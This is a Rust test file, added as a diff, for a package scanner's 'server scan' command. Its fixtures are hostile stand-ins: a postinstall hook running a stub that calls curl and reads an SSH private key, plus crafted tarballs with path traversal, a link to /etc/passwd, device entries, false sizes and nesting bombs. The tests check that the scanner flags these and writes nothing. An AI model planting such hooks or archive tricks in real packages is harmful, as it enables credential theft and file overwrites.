@@ -1,0 +1,130 @@
+//! `portcullis server scan`: strangers' packages, through the command line.
+
+use std::fs;
+use std::io::Write as _;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use flate2::Compression;
+use flate2::write::GzEncoder;
+use serde_json::Value;
+
+use crate::gate::{Gate, Said};
+
+fn scan(package: &Path, more: &[&str]) -> Said {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
+    command.args(["server", "scan"]).arg(package).args(more).stdin(Stdio::null());
+    let output = command.output().unwrap();
+    let text = |bytes| String::from_utf8(bytes).unwrap();
+    Said { ok: output.status.success(), out: text(output.stdout), err: text(output.stderr) }
+}
+
+/// A header of a tar, as nobody checks it.
+fn header(name: &str, kind: u8, link: &str, size: u64) -> Vec<u8> {
+    let mut header = vec![0_u8; 512];
+    let mut put = |at: usize, text: &str| header[at..at + text.len()].copy_from_slice(text.as_bytes());
+    put(0, name);
+    put(100, "0000644\0");
+    put(124, &format!("{size:011o}\0"));
+    put(136, "00000000000\0");
+    put(148, "        ");
+    put(157, link);
+    put(257, "ustar\x0000");
+    header[156] = kind;
+    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
+    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+    header
+}
+
+/// A `.tgz` of these entries: name, kind, link, content.
+fn tgz(folder: &Path, name: &str, entries: &[(&str, u8, &str, &[u8])]) -> PathBuf {
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
+    for (path, kind, link, content) in entries {
+        encoder.write_all(&header(path, *kind, link, u64::try_from(content.len()).unwrap())).unwrap();
+        encoder.write_all(content).unwrap();
+        encoder.write_all(&vec![0; content.len().next_multiple_of(512) - content.len()]).unwrap();
+    }
+    encoder.write_all(&[0; 1024]).unwrap();
+    let path = folder.join(name);
+    fs::write(&path, encoder.finish().unwrap()).unwrap();
+    path
+}
+
+const PACKAGE: &[u8] =
+    br#"{ "name": "acme-tickets", "version": "1.0.0", "license": "MIT", "repository": "github:acme/x",
+    "scripts": { "postinstall": "node steal.js" } }"#;
+const STEALS: &[u8] = b"const { execSync: go } = require('child_process');\n// eval(nothing)\ngo(`curl ${host}`);\nread(home + '/.ssh/id_ed25519');\n";
+
+#[tokio::test]
+async fn a_package_s_deeds_are_told_by_file_and_line_and_kept_for_who_approves() {
+    let gate = Gate::start().await;
+    let folder = tempfile::tempdir().unwrap();
+    let package = tgz(
+        folder.path(),
+        "x.tgz",
+        &[("package/package.json", b'0', "", PACKAGE), ("package/steal.js", b'0', "", STEALS)],
+    );
+    let said = scan(&package, &[]);
+    assert!(said.ok, "{}", said.err);
+    for part in [
+        "acme-tickets 1.0.0",
+        "runs something when it is installed (postinstall)",
+        "package/steal.js:3  child_process.execSync(`curl ${host}`)",
+        "package/steal.js:4",
+        "score 58",
+        "nothing of it was run",
+    ] {
+        assert!(said.out.contains(part), "{part}\n{}", said.out);
+    }
+    assert!(!said.out.contains("evaluates") && !folder.path().join("package").exists());
+    let unpacked = folder.path().join("unpacked");
+    fs::create_dir_all(&unpacked).unwrap();
+    fs::write(unpacked.join("package.json"), PACKAGE).unwrap();
+    fs::write(unpacked.join("steal.js"), STEALS).unwrap();
+    assert!(scan(&unpacked, &[]).out.contains("steal.js:3"), "a folder is read like an archive");
+
+    let path = package.to_str().unwrap();
+    gate.must(&["server", "scan", path, "--server", "desk"]).await;
+    let dossier: Value = serde_json::from_str(&gate.must(&["server", "show", "desk", "--json"]).await).unwrap();
+    assert_eq!(dossier["package"]["examination"]["findings"][0]["rule"], "reads-keys");
+    assert_eq!(dossier["package"]["examination"]["sha256"].as_str().unwrap().len(), 64);
+    let shown = gate.must(&["server", "show", "desk"]).await;
+    assert!(shown.contains("package/steal.js:3"), "{shown}");
+    gate.until("/receipts?kind=changed&text=server.examine", |page| page["receipts"][0].is_object()).await;
+    let said = gate.cli(&["server", "scan", path, "--server", "nobody"]).await;
+    assert!(!said.ok && said.err.contains("nobody"), "{said:?}");
+}
+
+#[test]
+fn packages_that_mean_ill_to_whoever_looks_do_no_harm() {
+    let folder = tempfile::tempdir().unwrap();
+    let outside = folder.path().join("evil");
+    let traversal =
+        tgz(folder.path(), "a.tgz", &[("../evil", b'0', "", b"x"), ("package/package.json", b'0', "", PACKAGE)]);
+    let said = scan(&traversal, &[]);
+    assert!(said.ok && said.out.contains("written outside its folder"), "{said:?}");
+    let links =
+        [("package/a", b'2', "/etc/passwd", b"".as_slice()), ("package/a/b", b'0', "", b"x"), ("c", b'3', "", b"")];
+    let said = scan(&tgz(folder.path(), "b.tgz", &links), &[]);
+    assert!(said.ok && said.out.contains("has a link") && said.out.contains("has a device"), "{said:?}");
+    assert!(!outside.exists(), "nothing was written");
+
+    // A gibibyte that is said to be there, and is not.
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
+    encoder.write_all(&header("package/a", b'0', "", 1 << 30)).unwrap();
+    let short = folder.path().join("c.tgz");
+    fs::write(&short, encoder.finish().unwrap()).unwrap();
+    let many: Vec<_> = (0..60_000).map(|_| ("a", b'5', "", b"".as_slice())).collect();
+    let many = tgz(folder.path(), "d.tgz", &many);
+    let noise = folder.path().join("e.whl");
+    fs::write(&noise, [b"PK\x03\x04".as_slice(), &[0xff; 4096]].concat()).unwrap();
+    for (package, why) in [(&short, "damaged or ends early"), (&many, "more than 50000"), (&noise, "malformed")] {
+        let said = scan(package, &[]);
+        assert!(!said.ok && said.err.contains(why) && said.err.contains("do not install it"), "{why}: {said:?}");
+    }
+    let deep = format!("{{ \"name\": {} }}", "[".repeat(100_000));
+    let source = "(".repeat(100_000);
+    let odd = [("package/package.json", b'0', "", deep.as_bytes()), ("package/a.js", b'0', "", source.as_bytes())];
+    let said = scan(&tgz(folder.path(), "f.tgz", &odd), &[]);
+    assert!(said.ok && said.out.contains("cannot be read"), "{said:?}");
+}
